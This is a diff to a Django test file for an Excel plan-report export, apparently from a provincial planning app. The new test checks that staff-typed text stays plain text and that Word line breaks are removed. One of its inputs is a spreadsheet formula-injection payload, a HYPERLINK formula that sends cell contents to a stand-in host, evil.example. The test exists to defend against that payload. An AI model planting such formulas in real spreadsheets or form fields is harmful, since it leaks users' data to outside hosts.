@@ -7,7 +7,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from accounts.models import User
-from plans.models import Plan
+from plans.models import Plan, Target
 from tests.factories import logged_in
 
 pytestmark = pytest.mark.django_db
@@ -74,3 +74,16 @@ def test_another_province_s_plan_is_not_found_and_the_page_links_the_report(clie
     assert reverse("plan_report", args=[own.pk]) in bac_ninh.get(own.get_absolute_url()).content.decode()
     other = Plan.objects.exclude(pk__in=visible.values("pk")).first()
     assert bac_ninh.get(reverse("plan_report", args=[other.pk])).status_code == 404
+
+
+def test_text_typed_by_staff_stays_text_and_word_s_line_breaks_do_not_break_the_report(client):
+    plan = Plan.objects.get(title__startswith=BAC_GIANG)
+    first, second = plan.targets.order_by("id")[:2]
+    Target.objects.filter(pk=first.pk).update(wording='=HYPERLINK("http://evil.example/?x="&A1,"bấm")')
+    Target.objects.filter(pk=second.pk).update(wording="Thành lập mới\x0b150 HTX")  # Shift+Enter in Word
+    book = report(logged_in(client, "lanhdao"), plan)
+    for sheet in book:
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert all(cell.data_type != "f" for cell in cells)
+    wordings = [row[1] for row in book["Tiến độ"].iter_rows(min_row=6, values_only=True)]
+    assert wordings[:2] == ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "Thành lập mới150 HTX"]
